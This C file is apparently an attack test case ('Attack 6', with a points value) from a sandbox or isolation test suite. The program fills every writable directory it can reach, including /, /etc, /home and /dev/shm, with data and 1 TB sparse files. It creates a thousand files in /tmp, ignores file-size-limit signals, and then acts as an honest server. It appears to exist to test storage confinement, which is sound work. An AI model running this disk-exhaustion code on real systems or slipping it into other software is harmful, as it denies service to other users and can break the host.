/* Attack 6: fills every folder that it can write to, with bytes and with names, and is an honest
 * server then. */
/* Points: 53 */
#include "honest.h"

#include <fcntl.h>
#include <signal.h>

static void fill(const char *folder)
{
    static char piece[65536];
    char path[64];
    snprintf(path, sizeof path, "%s/hostile-was-here", folder);
    int fd = open(path, O_WRONLY | O_CREAT, 0600);
    while (fd >= 0 && write(fd, piece, sizeof piece) > 0)
        continue;
    close(fd);
    snprintf(path, sizeof path, "%s/hostile-was-here-sparse", folder);
    fd = open(path, O_WRONLY | O_CREAT, 0600);
    if (fd >= 0 && ftruncate(fd, 1L << 40) == 0)
        write(fd, piece, sizeof piece);
    close(fd);
}

static void fill_with_names(const char *folder, int count)
{
    char path[64];
    for (int i = 0; i < count; i++) {
        snprintf(path, sizeof path, "%s/hostile-was-here-%d", folder, i);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd < 0)
            return;
        close(fd);
    }
}

int main(int argc, char *argv[])
{
    static const char *const folders[] = {".",    "..",       "/",     "/tmp",       "/var/tmp",
                                          "/dev", "/dev/shm", "/srv",  "/dev/pts",   "/etc",
                                          "/run", "/proc",    "/home", "/dev/mqueue"};
    signal(SIGXFSZ, SIG_IGN);
    for (size_t i = 0; i < sizeof folders / sizeof folders[0]; i++)
        fill(folders[i]);
    fill_with_names("/tmp", 1000);
    honest_serve(honest_listen(argc, argv));
}
